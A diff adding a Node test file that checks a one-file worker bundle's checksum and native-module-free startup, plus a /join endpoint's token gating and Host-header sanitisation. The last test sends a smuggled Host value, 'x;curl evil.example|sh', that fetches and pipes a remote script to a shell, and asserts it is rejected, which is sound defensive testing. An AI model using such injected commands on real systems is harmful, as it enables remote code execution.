@@ -1,0 +1,87 @@
+import assert from 'node:assert/strict';
+import { spawn, spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { request } from 'node:http';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { Api, FINAL } from '../helpers/api.js';
+import { REPO_ROOT, startMaster, tempDir } from '../helpers/processes.js';
+import { waitFor } from '../helpers/wait.js';
+
+/** Loaded with --require before the bundle: any attempt to load a native addon throws. */
+const FORBID_NATIVE = `
+const refuse = () => { throw new Error('native modules are forbidden here'); };
+process.dlopen = refuse;
+require('module')._extensions['.node'] = refuse;
+`;
+
+function get(url: string, headers: Record<string, string> = {}): Promise<{ status: number; body: Buffer }> {
+  return new Promise((resolve, reject) => {
+    request(url, { headers }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c)).on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks) }));
+    }).on('error', reject).end();
+  });
+}
+
+test('the one-file worker, downloaded from the master into an empty directory, runs with native modules forbidden', async (t) => {
+  const root = tempDir(t);
+  const m = await startMaster(t, { dataDir: join(root, 'master') });
+  const api = new Api(m.httpUrl, m.dataDir);
+  const phone = join(root, 'phone');
+  mkdirSync(phone);
+  assert.deepEqual(readdirSync(phone), [], 'starts empty: no node_modules, no package.json');
+
+  const bundle = await get(`${m.httpUrl}/worker.js`);
+  assert.equal(bundle.status, 200);
+  const sums = (await get(`${m.httpUrl}/worker.js.sha256`)).body.toString();
+  assert.equal(sums, `${createHash('sha256').update(bundle.body).digest('hex')}  rc-worker.js\n`, 'the published checksum matches the served bytes');
+  writeFileSync(join(phone, 'rc-worker.js'), bundle.body);
+  writeFileSync(join(root, 'forbid-native.cjs'), FORBID_NATIVE);
+
+  // The guard really bites: the master's own native module cannot load under it.
+  const probe = spawnSync(process.execPath, ['--require', join(root, 'forbid-native.cjs'), '-e', `new (require(${JSON.stringify(join(REPO_ROOT, 'node_modules', 'better-sqlite3'))}))(':memory:')`], { encoding: 'utf8' });
+  assert.notEqual(probe.status, 0);
+  assert.match(probe.stderr, /native modules are forbidden here/);
+
+  const token = readFileSync(join(m.dataDir, 'join-token'), 'utf8').trim();
+  const worker = spawn(process.execPath, ['--require', join(root, 'forbid-native.cjs'), 'rc-worker.js', '--join', `127.0.0.1:${m.tcpPort}`, '--token', token, '--device-id', 'bundled-phone', '--data-dir', join(phone, 'state')], { cwd: phone, stdio: ['ignore', 'pipe', 'pipe'] });
+  let output = '';
+  worker.stdout.on('data', (c: Buffer) => (output += c.toString()));
+  worker.stderr.on('data', (c: Buffer) => (output += c.toString()));
+  t.after(() => void worker.kill('SIGKILL'));
+
+  await waitFor(async () => {
+    const rows = (await (await fetch(`${m.httpUrl}/text/devices?format=json`)).json()) as Array<{ device_id: string; status: string }>;
+    return rows.some((r) => r.device_id === 'bundled-phone' && r.status === 'online');
+  }, 20_000, () => `the bundled worker registers:\n${output}`);
+  const task = await api.submit({ task_type: 'echo', payload: { message: 'hello from one file' } });
+  const done = await api.waitForStatus(task.task_id, [...FINAL], 20_000);
+  assert.equal(done.status, 'succeeded', output);
+  assert.equal(done.device_id, 'bundled-phone');
+  assert.equal(done.result?.output.trim(), 'hello from one file');
+  assert.doesNotMatch(output, /forbidden/);
+});
+
+test('GET /join: the lines for every platform, the token only for a caller with the API token, hostile Host headers ignored', async (t) => {
+  const m = await startMaster(t, { dataDir: join(tempDir(t), 'master') });
+  const api = new Api(m.httpUrl, m.dataDir);
+  const token = readFileSync(join(m.dataDir, 'join-token'), 'utf8').trim();
+
+  const open = (await get(`${m.httpUrl}/join`, { host: `nas.local:${m.httpPort}` })).body.toString();
+  for (const label of ['Android (Termux)', 'Raspberry Pi OS', 'Linux / macOS', 'Windows (PowerShell)']) assert.ok(open.includes(`# ${label}`), label);
+  assert.ok(open.includes(`curl -fsSLo rc-worker.js http://nas.local:${m.httpPort}/worker.js && node rc-worker.js --join nas.local:${m.tcpPort} --token <JOIN_TOKEN>`), open);
+  assert.ok(!open.includes(token), 'no token without the API token');
+
+  const authed = await api.request('GET', '/join?format=json');
+  assert.equal(authed.status, 200);
+  const body = authed.body as { token_included: boolean; commands: Record<string, string> };
+  assert.equal(body.token_included, true);
+  assert.ok(body.commands['linux_macos']!.endsWith(`--join 127.0.0.1:${m.tcpPort} --token ${token}`), body.commands['linux_macos']);
+
+  assert.equal((await api.request('GET', '/join', undefined, 'wrong-token')).status, 403);
+  const hostile = (await get(`${m.httpUrl}/join`, { host: 'x;curl evil.example|sh' })).body.toString();
+  assert.ok(!hostile.includes('evil.example'), 'a Host header that is not a plain name never reaches the lines');
+  assert.equal((await api.request('GET', '/join?format=xml')).status, 400);
+});
